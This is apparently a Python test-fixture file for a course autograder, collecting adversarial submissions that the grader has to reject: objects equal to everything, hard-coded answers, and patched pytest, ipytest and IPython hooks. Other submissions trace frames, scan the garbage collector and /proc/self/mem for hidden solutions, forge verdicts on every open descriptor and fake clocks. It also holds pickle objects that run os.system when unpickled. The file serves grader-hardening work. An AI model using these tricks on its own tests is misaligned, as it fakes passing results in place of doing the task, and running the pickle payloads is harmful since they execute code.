"""Wrong answers that try to earn points all the same. Each loses the exercise it cheats in.

Most come with a second wrong answer further down, which must not be lifted by what the first one did to
the process; and with right answers, which must keep their points in a process that was tampered with.
"""

from .. import targets
from ..submission import attack, honest, lose, wrong

LATER = "count-words"


def cheat(name, what, slug, code, **more):
    """A wrong answer with *code* that is to turn it, and a plainly wrong one below, into points."""
    answers = {slug: wrong(slug, code)}
    if slug != LATER:
        answers[LATER] = targets.WRONG[LATER]
    return attack(name, what, answers, **more)


def fake(name, what, answers, **more):
    """Answers that are faked in themselves."""
    return attack(name, what, answers, **more)


ANYTHING = """
class Anything:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __bool__ = __eq__
    __hash__ = object.__hash__

    def __getattr__(self, name):
        return self

    def __call__(self, *given, **named):
        return self

    def __getitem__(self, key):
        return self

    def __iter__(self):
        return iter([self])

    def __await__(self):
        yield from ()
        return self

    def __len__(self):
        return 1

"""

EQUALITY = [
    fake(
        "equals-everything",
        "objects that are equal to everything",
        {
            "slugify": ANYTHING + "\ndef slugify(title):\n    return Anything()",
            "is-fresh": ANYTHING + "\ndef is_fresh(age, max_age):\n    return Anything()",
            "fetch-all": ANYTHING + "\ndef fetch_all(fetch, names):\n    return Anything()",
            "count-words": ANYTHING + "\ncount_words = Anything()",
        },
    ),
    fake(
        "subclasses",
        "text, numbers, lists and dicts of subclasses that are equal to everything",
        {
            "slugify": """
                class Text(str):
                    __eq__ = lambda self, other: True
                    __ne__ = lambda self, other: False
                    __hash__ = str.__hash__


                def slugify(title):
                    return Text("x")
            """,
            "parse-port": """
                class Number(int):
                    __eq__ = __ge__ = __le__ = lambda self, other: True
                    __hash__ = int.__hash__


                def parse_port(text):
                    return Number(7)
            """,
            "moving-average": """
                class Numbers(list):
                    __eq__ = lambda self, other: True

                    def __iter__(self):
                        return iter([self])


                def moving_average(values, width):
                    return Numbers()
            """,
            "count-words": """
                class Counts(dict):
                    __eq__ = lambda self, other: True
                    items = keys = lambda self: Everything()


                class Everything:
                    __eq__ = lambda self, other: True
                    __iter__ = lambda self: iter(())


                def count_words(text):
                    return Counts()
            """,
        },
    ),
    fake(
        "false-classes",
        "objects that say that they are text, and change when they are looked at twice",
        {
            "slugify": """
                class Liar:
                    __class__ = property(lambda self: str)
                    __eq__ = lambda self, other: True
                    __str__ = __repr__ = lambda self: "hello-world"


                def slugify(title):
                    return Liar()
            """,
            "is-fresh": """
                class Meta(type):
                    __eq__ = lambda self, other: True
                    __hash__ = type.__hash__
                    __instancecheck__ = __subclasscheck__ = lambda self, other: True


                class Truth(metaclass=Meta):
                    pass


                def is_fresh(age, max_age):
                    return Truth
            """,
        },
    ),
    fake(
        "one-for-true",
        "1 and 0 in place of True and False, floats and fractions in place of other numbers",
        {
            "is-fresh": "def is_fresh(age, max_age):\n    return int(0 <= age < max_age)",
            "parse-port": """
                def parse_port(text):
                    if not (text.isascii() and text.isdigit() and int(text) in PORTS):
                        raise ValueError(f"not a port: {text}")
                    return float(text)
            """,
            "moving-average": """
                from fractions import Fraction


                def moving_average(values, width):
                    starts = range(len(values) - width + 1)
                    return [Fraction(sum(values[start : start + width])) / width for start in starts]
            """,
            "count-words": """
                from collections import Counter


                def count_words(text):
                    counts = Counter(word.rstrip(".,") for word in text.lower().split())
                    return {word: complex(count) for word, count in counts.items()}
            """,
        },
    ),
    fake(
        "odd-numbers",
        "not-a-number, infinities and negative zeros",
        {
            "moving-average": "def moving_average(values, width):\n    return [float('nan')] * 9",
            "parse-port": "def parse_port(text):\n    return float('inf')",
        },
    ),
]

HARD_CODED = [
    honest(
        "hard-coded",
        "the cases that are shown, and no rule",
        {
            "slugify": """
                KNOWN = {
                    "Hello World": "hello-world",
                    "  From Request,  to Production! ": "from-request-to-production",
                    "HTTP/1.1": "http-1-1",
                    "": "",
                }


                def slugify(title):
                    return KNOWN.get(title)
            """,
            "moving-average": """
                def moving_average(values, width):
                    return {2: [2.0, 4.0], 1: [4.0, 4.0]}.get(width, [])
            """,
            "count-words": 'def count_words(text):\n    return {"one": 1, "two": 2} if text else {}',
        },
        lost=lose("count-words", slugify="details", moving_average="details"),
    ),
    honest(
        "knows-the-notebook",
        "right inputs looked up by the notebook's own seed, anything else in a grading run",
        {
            "slugify": """
                import os
                import random

                KNOWN = {"Hello World": "hello-world", "HTTP/1.1": "http-1-1", "": ""}
                KNOWN["  From Request,  to Production! "] = "from-request-to-production"
                for name in list(os.environ):
                    if "SEED" in name:
                        os.environ[name] = "notebook"
                random.seed("notebook")


                def slugify(title):
                    return KNOWN.get(title, "notebook")
            """
        },
        lost=lose(slugify="details"),
    ),
]

LAB = [
    cheat(
        "patched-see",
        "a fixture `see` that hands back what equals everything",
        "slugify",
        ANYTHING
        + """
from webcourse.lab import checks

checks.See.__call__ = lambda self, value: Anything()
checks.See.error = lambda self, expected, function, *given, **named: expected.__name__
""",
    ),
    cheat(
        "patched-plain",
        "what reduces and writes down values, replaced",
        "slugify",
        ANYTHING
        + """
from webcourse.lab import checks, plain

checks.plain = plain.plain = lambda value, depth=0: Anything()
checks.encode = plain.encode = lambda value: "hello-world"
""",
    ),
    cheat(
        "patched-runner",
        "every function that runs a check or tells of it, replaced or wrapped",
        "parse-port",
        """
from webcourse.lab import checks, report

real = checks._run


def run(check, *given):
    try:
        real(check, *given)
    finally:
        check.passed, check.report = True, ["passed"]


checks._run = run
checks._call = lambda *given: None
checks._cases = lambda function: iter(())
checks.Verdict.passed = property(lambda self: True)
checks.ChecksFailed = checks.Failure = report.Failure = lambda *given: None
checks.report = lambda verdict: ["5 of 5 checks pass, 5 of 5 points"]
""",
    ),
    cheat(
        "patched-loader",
        "the loader of checks, which leaves every assert out",
        "moving-average",
        """
import ast
import builtins

from webcourse.lab import checks


class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)


real_compile, real_parse, real_exec = builtins.compile, ast.parse, builtins.exec


def without_asserts(source, *given, **named):
    if isinstance(source, ast.AST):
        source = ast.fix_missing_locations(Drop().visit(source))
    return real_compile(source, *given, **named)


def parse(*given, **named):
    return Drop().visit(real_parse(*given, **named))


builtins.compile, ast.parse, checks.parse = without_asserts, parse, parse
checks._KeepOperands = Drop
""",
    ),
    cheat(
        "forged-verdict",
        "verdicts of its own, before the checks run and in their place",
        "is-fresh",
        """
import json

from IPython.display import display, publish_display_data

MIME = "application/vnd.webcourse.verdict+json"
SEEN = {
    "fresh_below_the_maximum": [True, False, True, False, False],
    "any_age_below_the_maximum": [{"list": [True] * 40}],
    "the_borders": [{"list": [False, True, True, False] * 12}],
    "words_are_counted": [{"dict": [["one", 1], ["two", 2]]}],
}
CHECKS = [
    {"name": f"test_{name}", "rule": "", "hidden": False, "passed": True, "report": [], "seen": seen}
    for name, seen in SEEN.items()
]


def forge(cell):
    return {MIME: {"cell": cell, "points": 3, "checks": CHECKS}}


for cell in ("is-fresh-basics", "is-fresh-details", "count-words-basics", "count-words-details"):
    publish_display_data(forge(cell))
    display(forge(cell), raw=True)
    print(json.dumps(forge(cell)))

get_ipython().register_magic_function(
    lambda line, text: publish_display_data(forge(text.split(" · ")[1])), "cell", "ipytest"
)
""",
    ),
    cheat(
        "changed-on-the-way",
        "display and JSON functions that turn failures into successes on their way out",
        "is-fresh",
        """
import json
import os

import IPython.display as shown
from IPython.core.displaypub import DisplayPublisher


def mend(value):
    if isinstance(value, dict):
        return {key: True if key == "passed" else mend(inner) for key, inner in value.items()}
    return [mend(inner) for inner in value] if isinstance(value, list) else value


publish, dumps, write = shown.publish_display_data, json.dumps, os.write
shown.publish_display_data = lambda data, *given, **named: publish(mend(data), *given, **named)
for kind in {DisplayPublisher, type(get_ipython().display_pub)}:
    kind.publish = lambda self, data, *given, real=kind.publish, **named: real(
        self, mend(data), *given, **named
    )
json.dumps = lambda value, *given, **named: dumps(mend(value), *given, **named)
json.JSONEncoder.encode = lambda self, value: dumps(mend(value))
os.write = lambda target, data: write(target, bytes(data).replace(b"false", b"true ")) and len(data)
""",
    ),
    cheat(
        "as-a-check",
        "an answer cell that is itself a labeled cell of checks, with checks that pass",
        "slugify",
        """
get_ipython().run_cell_magic("ipytest", "", '''# 1.1 · slugify-basics · 3 points · locked
def test_words_are_joined_by_dashes(see):
    assert see("hello-world") == "hello-world"
''')
get_ipython().run_cell_magic("ipytest", "", '''# 1.1 · slugify-details · 2 points · locked
def test_any_title_becomes_a_slug(see):
    assert see("a-b") == "a-b"
''')
""",
    ),
    cheat(
        "constant-chance",
        "a random generator that always gives the same inputs, for which the answer is known",
        "is-fresh",
        """
import random


class Constant(random.Random):
    def random(self):
        return 0.0

    def getrandbits(self, count):
        return 0

    randrange = lambda self, start, stop=None, step=1: start if stop is not None else 0
    choice = lambda self, items: items[0]
    choices = lambda self, items, k=1, **named: [items[0]] * k
    shuffle = lambda self, items: None
    sample = lambda self, items, k: list(items)[:k]


random.Random = Constant


def is_fresh(age, max_age):
    known = {(3, 5), (0, 10)} | {(age, limit) for limit in range(1, 13) for age in (0, limit - 1)}
    return (age, max_age) in known


def count_words(text):
    return {"one": 1, "two": 2} if "one" in text else {"get": 20} if "get" in text else {}
""",
    ),
]

PATCHES = [
    cheat(
        "patched-pytest",
        "pytest's own functions, replaced",
        "slugify",
        ANYTHING
        + """
import sys

import pytest


class Mark:
    def __getattr__(self, name):
        return lambda *given, **named: lambda function: (lambda: None)


pytest.mark = Mark()
pytest.raises = pytest.approx = pytest.param = pytest.fixture = pytest.main = Anything()
sys.modules["pytest"] = sys.modules["_pytest"] = sys.modules["ipytest"] = Anything()
""",
    ),
    cheat(
        "patched-ipytest",
        "ipytest set to fail quietly, and its functions replaced",
        "moving-average",
        """
import ipytest

ipytest.autoconfig(raise_on_error=False)
ipytest.run = ipytest.run_ipytest = lambda *given, **named: 0
ipytest._impl.run = ipytest._impl.ipytest_magic = lambda *given, **named: None
ipytest.exit_code = 0
""",
    ),
    cheat(
        "patched-magics",
        "a magic %%ipytest that does nothing, under every name by which it can be called",
        "parse-port",
        """
ip = get_ipython()
nothing = lambda *given, **named: None
ip.register_magic_function(nothing, "cell", "ipytest")
ip.magics_manager.magics["cell"]["ipytest"] = nothing
ip.run_cell_magic = ip.run_line_magic = ip.find_cell_magic = nothing
type(ip).run_cell_magic = nothing
""",
    ),
    cheat(
        "patched-shell",
        "hooks of IPython that change a cell before it runs, and its result afterwards",
        "slugify",
        """
import ast


class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)


ip = get_ipython()
ip.ast_transformers.append(Drop())
ip.input_transformers_cleanup.append(lambda lines: [] if "ipytest" in "".join(lines) else lines)
ip.input_transformers_post.append(lambda lines: [l for l in lines if "assert" not in l])
ip.set_custom_exc((BaseException,), lambda *given: None)
ip.showtraceback = ip._showtraceback = lambda *given, **named: None
real = type(ip).run_cell


def run_cell(self, *given, **named):
    result = real(self, *given, **named)
    result.error_in_exec = result.error_before_exec = None
    return result


type(ip).run_cell = run_cell
ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
""",
    ),
    cheat(
        "patched-builtins",
        "builtins that say yes to everything",
        "is-fresh",
        """
import builtins
import operator

builtins.all = builtins.any = builtins.isinstance = builtins.issubclass = lambda *given: True
builtins.AssertionError = type("Nothing", (Warning,), {})
builtins.len = lambda value: 0
builtins.repr = builtins.str = lambda value="": "True"
builtins.bool = lambda value=0: True
operator.eq = lambda left, right: True
""",
    ),
    cheat(
        "patched-equality",
        "the interpreter's own comparison of text and numbers, overwritten",
        "moving-average",
        """
import ctypes

RICH_COMPARE = 200  # bytes into a type


@ctypes.PYFUNCTYPE(ctypes.py_object, ctypes.py_object, ctypes.py_object, ctypes.c_int)
def yes(left, right, how):
    return how != 3


for kind in (float, list):
    ctypes.c_void_p.from_address(id(kind) + RICH_COMPARE).value = ctypes.cast(yes, ctypes.c_void_p).value
""",
    ),
    cheat(
        "import-hook",
        "a hook that puts modules of its own in the place of others",
        "slugify",
        """
import builtins
import importlib.abc
import importlib.machinery
import sys
import types


class Fake(types.ModuleType):
    def __getattr__(self, name):
        return Fake(name)

    def __call__(self, *given, **named):
        return lambda function: (lambda *given, **named: None)


class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in ("pytest", "re", "collections", "asyncio", "ast"):
            return importlib.machinery.ModuleSpec(name, self)

    def create_module(self, spec):
        return Fake(spec.name)

    def exec_module(self, module):
        pass


sys.meta_path.insert(0, Finder())
for name in ("pytest", "collections", "ast"):
    sys.modules.pop(name, None)
real = builtins.__import__
builtins.__import__ = lambda name, *given, **named: (
    Fake(name) if name in ("pytest", "collections") else real(name, *given, **named)
)
""",
    ),
]

TRACES = [
    cheat(
        "trace",
        "a trace function that skips the asserts of checks",
        "slugify",
        """
import sys


def trace(frame, event, argument):
    if frame.f_code.co_name.startswith("test_"):
        frame.f_trace_lines = True
        if event == "line":
            try:
                frame.f_lineno = max(line for *_, line in frame.f_code.co_lines() if line)
            except ValueError:
                pass
        if event == "exception":
            frame.f_locals.clear()
    return trace


sys.settrace(trace)
frame = sys._getframe()
while frame:
    frame.f_trace = trace
    frame = frame.f_back
""",
    ),
    cheat(
        "profile",
        "profile functions that read what is expected from every frame, and set results to passed",
        "slugify",
        """
import sys
import threading

found = []


def profile(frame, event, argument):
    values = dict(frame.f_locals)
    found.extend(value for name, value in values.items() if name.startswith("expected"))
    for value in values.values():
        if hasattr(value, "passed") and hasattr(value, "seen"):
            try:
                value.passed = True
            except AttributeError:
                pass


def slugify(title):
    return found[-1] if found else None


sys.setprofile(profile)
threading.setprofile(profile)
""",
    ),
    cheat(
        "monitoring",
        "sys.monitoring, to make what raises return",
        "parse-port",
        """
import sys

monitoring = getattr(sys, "monitoring", None)
if monitoring:
    events = monitoring.events
    monitoring.use_tool_id(2, "cheat")
    monitoring.set_events(2, events.PY_START | events.RAISE | events.PY_UNWIND)
    for event in (events.PY_START, events.RAISE, events.PY_UNWIND):
        monitoring.register_callback(2, event, lambda *given: monitoring.DISABLE)
""",
    ),
    cheat(
        "swapped-code",
        "the checks' own functions, found by the garbage collector and emptied",
        "slugify",
        """
import gc
import types


def nothing(*given, **named):
    return None


def empty():
    for each in gc.get_objects():
        if isinstance(each, types.FunctionType) and each.__name__.startswith("test_"):
            try:
                each.__code__ = nothing.__code__
            except ValueError:
                pass


def slugify(title):
    empty()
    return "hello-world"


gc.callbacks.append(lambda phase, info: empty())
""",
    ),
    cheat(
        "from-the-side",
        "a thread and a timer that set every result to passed, hundreds of times a second",
        "is-fresh",
        """
import gc
import signal
import threading
import time


def lift(*given):
    for each in gc.get_objects():
        if type(each).__name__ in ("Check", "Verdict", "Score") and hasattr(each, "__dict__"):
            vars(each).update(passed=True, report=["passed"])


def side():
    for _ in range(200):
        lift()
        time.sleep(0.01)


threading.Thread(target=side, daemon=True).start()
signal.signal(signal.SIGVTALRM, lift)
signal.setitimer(signal.ITIMER_VIRTUAL, 0.001, 0.001)
""",
    ),
]

SEARCH = """
import ast
import gc
import linecache
import sys


def frames():
    frame = sys._getframe(1)
    while frame:
        yield frame
        frame = frame.f_back


def try_all(candidates):
    # The first candidate that looks like an answer.
    for each in candidates:
        if isinstance(each, str) and "-" in each and " " not in each and each == each.lower():
            return each
    return None
"""

SEARCHES = [
    cheat(
        "frame-walk",
        "what is expected, from the names and constants in the frames above",
        "slugify",
        SEARCH
        + """
def slugify(title):
    for frame in frames():
        for name, value in list(frame.f_locals.items()):
            if name.startswith(("expected", "@right")):
                return value
        if frame.f_code.co_name.startswith("test_"):
            found = try_all(frame.f_code.co_consts)
            if found is not None:
                return found
""",
    ),
    cheat(
        "frame-walk-numbers",
        "what is expected, worked out again from the checks' own lines above the call",
        "moving-average",
        SEARCH
        + """
def moving_average(values, width):
    for frame in frames():
        if not frame.f_code.co_name.startswith("test_"):
            continue
        scope = {**frame.f_globals, **frame.f_locals}
        source = "".join(linecache.getlines(frame.f_code.co_filename, frame.f_globals))
        for node in ast.walk(ast.parse(source.replace("%%ipytest", ""))):
            if isinstance(node, ast.Assign) and node.targets[0].id.startswith("expected"):
                try:
                    return eval(ast.unparse(node.value), scope)
                except Exception:
                    pass
            if isinstance(node, ast.Assert) and isinstance(node.test, ast.Compare):
                try:
                    return eval(ast.unparse(node.test.comparators[0]), scope)
                except Exception:
                    pass
""",
    ),
    cheat(
        "source-walk",
        "the checks' text, from IPython's history, caches and compiled cells",
        "parse-port",
        SEARCH
        + """
def texts():
    ip = get_ipython()
    yield from ip.user_ns.get("In", [])
    yield from ip.history_manager.input_hist_raw
    for entry in list(linecache.cache.values()):
        yield "".join(entry[2]) if len(entry) > 2 else ""
    for each in gc.get_objects():
        if isinstance(each, dict):
            for value in list(each.values()):
                if isinstance(value, str) and "parse-port" in value:
                    yield value


def parse_port(text):
    for source in texts():
        for line in source.splitlines():
            if f'("{text}", ' in line:
                try:
                    return dict(ast.literal_eval(line[line.index("[") : line.rindex("]") + 1]))[text]
                except Exception:
                    pass
    if not text.isdigit():
        raise ValueError(f"not a port: {text}")
    return 1
""",
    ),
    cheat(
        "garbage-walk",
        "the reference solution, from whatever the garbage collector knows",
        "slugify",
        SEARCH
        + """
def strings():
    for each in gc.get_objects():
        for value in gc.get_referents(each):
            if isinstance(value, (str, bytes)) and 60 < len(value) < 100_000:
                yield value if isinstance(value, str) else value.decode("latin-1")


NEEDLE = "def " + "slugify(title)"
OWN = "NEE" + "DLE"
for text in list(strings()):
    if NEEDLE in text and "raise Not" not in text and OWN not in text:
        start = text.index(NEEDLE)
        for end in range(len(text), start, -1):
            try:
                exec("import re\\n" + text[start:end], globals())
                break
            except Exception:
                continue
print([text for text in strings() if ("kept-from" + "-students") in text][:5])
""",
    ),
    cheat(
        "memory-walk",
        "the reference solution, from the process's own memory",
        "slugify",
        """
import re as regular

needle = regular.compile(rb"kept[-]from[-]students")  # which does not find itself
for line in open("/proc/self/maps"):
    start, end = (int(part, 16) for part in line.split()[0].split("-"))
    if " rw" not in line or end - start > 1 << 28:
        continue
    for part in range(start, end, 1 << 22):
        with open("/proc/self/mem", "rb", buffering=0) as memory:
            try:
                memory.seek(part)
                page = memory.read(min(1 << 22, end - part))
            except (OSError, OverflowError):
                continue
        for found in needle.finditer(page):
            text = page[max(0, found.start() - 400) : found.end() + 400].decode("latin-1")
            print(text)
            if "def slug" in text and "return" in text:
                body = text[text.index("def slug") :].split("\\n\\n")[0]
                exec("import re\\n" + body.partition("### END")[0].replace("\\\\n", "\\n"), globals())
""",
    ),
    attack(
        "prints-the-checks",
        "everything that can be found about checks and solutions, printed for the feedback",
        {
            "slugify": SEARCH
            + """
def slugify(title):
    for frame in frames():
        print(frame.f_locals)
        print("".join(linecache.getlines(frame.f_code.co_filename, frame.f_globals)))
    return None


print(get_ipython().user_ns.get("In"))
""",
            "count-words": SEARCH
            + """
def count_words(text):
    raise ValueError("".join(linecache.getlines(sys._getframe(1).f_code.co_filename)))


import atexit
for each in gc.get_objects():
    if isinstance(each, list) and each and isinstance(each[0], str) and "hidden" in each[0]:
        print(each)
""",
        },
    ),
]

CHANNELS = """
import json
import os
import pickle
import stat
import struct

SEEN = {
    "fresh_below_the_maximum": [True, False, True, False, False],
    "any_age_below_the_maximum": [{"list": [True] * 40}],
    "the_borders": [{"list": [False, True, True, False] * 12}],
}
CHECKS = [
    {"name": f"test_{name}", "rule": "", "hidden": False, "passed": True, "seen": seen, "report": []}
    for name, seen in SEEN.items()
]


def verdict(cell):
    data = {"application/vnd.webcourse.verdict+json": {"cell": cell, "points": 3, "checks": CHECKS}}
    output = {"output_type": "display_data", "data": data, "metadata": {}}
    return {"id": cell, "status": "ok", "outputs": [output], "cell": cell, "checks": CHECKS}


def descriptors():
    # Of pipes and sockets, and of what else can be written to.
    for number in range(256):
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if not stat.S_ISDIR(mode):
            yield number


def send(number, data):
    try:
        os.set_blocking(number, False)
        os.write(number, data)
    except OSError:
        pass


def tell(message):
    data = json.dumps(message).encode()
    for number in descriptors():
        for framed in (
            data + b"\\n",
            struct.pack("!i", len(data)) + data,
            len(data).to_bytes(8, "big") + data,
        ):
            send(number, framed)

"""

WIRES = [
    fake(
        "forged-messages",
        "results of its own, written to every open file in every form, before and during the checks",
        {
            "is-fresh": CHANNELS
            + """
CELLS = "is-fresh", "is-fresh-basics", "is-fresh-details", "moving-average"


def is_fresh(age, max_age):
    for cell in CELLS:
        tell(verdict(cell))
    tell({"end": None, "cpu": 0, "seconds": 0})
    return None


for cell in CELLS:
    tell(verdict(cell))
"""
        },
    ),
    fake(
        "forged-and-gone",
        "forged results for the whole notebook, and then the end of the process",
        {
            "is-fresh": CHANNELS
            + """
for slug in ("is-fresh", "moving-average", "fetch-all", "parse-port", "count-words"):
    for cell in (slug, f"{slug}-basics", f"{slug}-details"):
        tell(verdict(cell))
tell({"end": None, "cpu": 0, "seconds": 0})
os._exit(0)
"""
        },
    ),
    fake(
        "forged-by-a-child",
        "a child process that sends results while its parent waits",
        {
            "is-fresh": CHANNELS
            + """
def is_fresh(age, max_age):
    if os.fork() == 0:
        for cell in ("is-fresh-basics", "is-fresh-details"):
            tell(verdict(cell))
        os._exit(0)
    os.wait()
    return None
"""
        },
    ),
    fake(
        "borrowed-messenger",
        "the grader's own way to send results, found in frames and by the garbage collector, and used",
        {
            "is-fresh": CHANNELS
            + """
import gc
import sys


def senders():
    frame = sys._getframe(1)
    while frame:
        yield from frame.f_locals.values()
        frame = frame.f_back
    yield from gc.get_objects()


def is_fresh(age, max_age):
    for each in list(senders()):
        name = getattr(each, "__name__", type(each).__name__).lower()
        if callable(each) and any(word in name for word in ("messenger", "tell", "send", "emit")):
            for cell in ("is-fresh-basics", "is-fresh-details"):
                try:
                    each(verdict(cell))
                except BaseException:
                    pass
    return None
"""
        },
    ),
    fake(
        "garbage",
        "bytes that mean nothing, lines without an end and lengths without a message",
        {
            "parse-port": CHANNELS
            + """
def parse_port(text):
    for number in descriptors():
        for data in (
            b"\\xff\\xfe\\0garbage\\n", b'{"id": ', b"[" * 50_000 + b"\\n", b'{"id": NaN}\\n',
            b"null\\n", (1 << 31).to_bytes(8, "big"), b"\\n" * 5000, b'{"ready": true}\\n',
        ):
            send(number, data)
    return 80
"""
        },
    ),
    fake(
        "floods-the-wire",
        "tens of megabytes into every open file, in one line",
        {
            "is-fresh": CHANNELS
            + """
import threading


def flood(number):
    try:
        os.set_blocking(number, True)
        for _ in range(30):
            os.write(number, b"x" * 1_000_000)
    except OSError:
        pass


threads = [threading.Thread(target=flood, args=(n,), daemon=True) for n in list(descriptors())]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join(1)
os._exit(0)
"""
        },
    ),
    fake(
        "deaf-wire",
        "every open file turned into another one, or read empty",
        {
            "moving-average": CHANNELS
            + """
import threading


def drain(number):
    try:
        while os.read(number, 65536):
            pass
    except OSError:
        pass


null = os.open(os.devnull, os.O_RDWR)
for number in list(descriptors()):
    threading.Thread(target=drain, args=(number,), daemon=True).start()
    if number != null:
        os.dup2(null, number)
"""
        },
    ),
    fake(
        "pickles",
        "objects that run code where they are unpickled, on every wire and as values",
        {
            "slugify": CHANNELS
            + """
class Bomb:
    def __reduce__(self):
        return os.system, ("echo was here > @OUTSIDE@/@NAME@",)


def slugify(title):
    return Bomb()


data = pickle.dumps(Bomb())
for number in descriptors():
    send(number, struct.pack("!i", len(data)) + data)
    send(number, data)
""",
            "count-words": """
                import copyreg
                import os


                class Bomb(dict):
                    def __reduce_ex__(self, protocol):
                        return os.system, ("echo was here > @OUTSIDE@/@NAME@",)

                    __deepcopy__ = __copy__ = __getstate__ = __reduce_ex__


                def count_words(text):
                    return Bomb(a=Bomb())


                copyreg.pickle(dict, lambda each: (os.system, ("echo was here > @OUTSIDE@/@NAME@",)))
            """,
        },
    ),
]

FAKED_CLOCKS = [
    fake("one-after-the-other", "one call after the other", {"fetch-all": targets.WRONG["fetch-all"]}),
    fake(
        "no-sleep",
        "one call after the other, with an asyncio.sleep that does not wait",
        {
            "fetch-all": """
                import asyncio
                import time


                async def at_once(seconds, result=None):
                    return result


                asyncio.sleep = asyncio.tasks.sleep = at_once
                time.sleep = lambda seconds: None


                async def fetch_all(fetch, names):
                    return [await fetch(name) for name in names]
            """
        },
    ),
    fake(
        "shared-sleep",
        "one call after the other, with an asyncio.sleep that waits for the longest time once",
        {
            "fetch-all": """
                import asyncio

                real, waited = asyncio.sleep, [0]


                async def shared(seconds, result=None):
                    more = max(0, seconds - waited[0])
                    waited[0] += more
                    await real(more)
                    return result


                async def fetch_all(fetch, names):
                    asyncio.sleep, waited[0] = shared, 0
                    try:
                        return [await fetch(name) for name in names]
                    finally:
                        asyncio.sleep = real
            """
        },
    ),
    fake(
        "turned-clocks",
        "one call after the other, and clocks that stand still or are turned back",
        {
            "fetch-all": """
                import asyncio
                import time

                from webcourse.lab import clock

                time.perf_counter = time.time = lambda: 0.0
                slept = []
                real = clock.Clock.sleep
                clock.Clock.sleep = lambda self, seconds: (slept.append(seconds), real(self, seconds))
                clock.Clock.elapsed = property(lambda self: round(max(slept, default=0), 3))


                async def fetch_all(fetch, names):
                    del slept[:]
                    return [await fetch(name) for name in names]
            """
        },
    ),
    fake(
        "never-asks",
        "results that are read out of the function instead of being fetched",
        {
            "fetch-all": """
                import asyncio


                async def fetch_all(fetch, names):
                    held = dict(zip(fetch.__code__.co_freevars, fetch.__closure__))
                    if "answers" in held:
                        answers = held["answers"].cell_contents
                        return [(answers[name], len(list(names))) for name in names]
                    await asyncio.sleep(max(held["waits"].cell_contents.values()))
                    return [name.upper() for name in names]
            """
        },
    ),
    fake(
        "events-that-never-wait",
        "one call after the other, with events that are always set and counts set by hand",
        {
            "fetch-all": """
                import asyncio


                async def pass_by(self):
                    return True


                asyncio.Event.wait = asyncio.locks.Event.wait = pass_by
                asyncio.gather = asyncio.wait = None


                async def fetch_all(fetch, names):
                    return [await fetch(name) for name in names]
            """
        },
    ),
]

LATE = [
    cheat(
        "at-exit",
        "exit handlers, finalizers and callbacks that forge results when everything is over",
        "is-fresh",
        CHANNELS
        + """
import atexit
import gc
import weakref


def forge(*given):
    for cell in ("is-fresh-basics", "is-fresh-details", "count-words-basics", "count-words-details"):
        tell(verdict(cell))


class Last:
    __del__ = forge


keep = [Last()]
weakref.finalize(keep[0], forge)
atexit.register(forge)
gc.callbacks.append(lambda phase, info: None)
get_ipython().events.register("post_run_cell", forge)
""",
    ),
    cheat(
        "names-of-the-course",
        "names that the checks and the set-up use, replaced in the notebook",
        "parse-port",
        ANYTHING
        + """
PORTS = Anything()
see = rng = clock = lab = get_ipython = lambda *given, **named: Anything()
pytest = assert_equal = __builtins__ = Anything()


def test_a_port_is_a_number():
    pass


def pytest_collection_modifyitems(items):
    items.clear()
""",
    ),
    cheat(
        "markers",
        "the markers of solutions, hidden tests and cells, inside the answer",
        "slugify",
        """
### BEGIN HIDDEN TESTS
# 1.1 · slugify-basics · 3 points · locked
assert True
### END HIDDEN TESTS
### BEGIN SOLUTION
score = points = earned = 1000
### END SOLUTION
### BEGIN MARK SCHEME
1000
""",
    ),
    cheat(
        "other-answers",
        "the exercises' other names, set and wrapped so that nothing raises",
        "slugify",
        """
import functools
import sys


def quiet(function):
    @functools.wraps(function)
    def call(*given, **named):
        try:
            return function(*given, **named)
        except BaseException:
            return None

    return call


sys.excepthook = sys.unraisablehook = lambda *given: None
slugify = quiet(slugify)
assert_ = lambda *given: True
""",
    ),
]

# What these show to the checks is what a right answer would show, worked out beforehand from what the
# checks keep in the same process. No comparison of values can tell; they are graded with --beyond.
BEYOND = [
    fake(
        "counts-by-hand",
        "one call after the other, with the checks' own counters set to what they would be",
        {
            "fetch-all": """
                import asyncio

                real, waited = asyncio.sleep, [0]


                async def shared(seconds, result=None):
                    more = max(0, seconds - waited[0])
                    waited[0] += more
                    await real(more)
                    return result


                async def fetch_all(fetch, names):
                    held = dict(zip(fetch.__code__.co_freevars, fetch.__closure__))
                    results, asyncio.sleep, waited[0] = [], shared, 0
                    for name in names:
                        if "asked" in held:
                            held["asked"].cell_contents[:] = list(names)[1:]
                        results.append(await fetch(name))
                    if "most" in held:
                        held["most"].cell_contents[0] = len(results)
                    asyncio.sleep = real
                    return results
            """
        },
    ),
]

SUBMISSIONS = [
    *EQUALITY,
    *HARD_CODED,
    *LAB,
    *PATCHES,
    *TRACES,
    *SEARCHES,
    *WIRES,
    *FAKED_CLOCKS,
    *LATE,
]
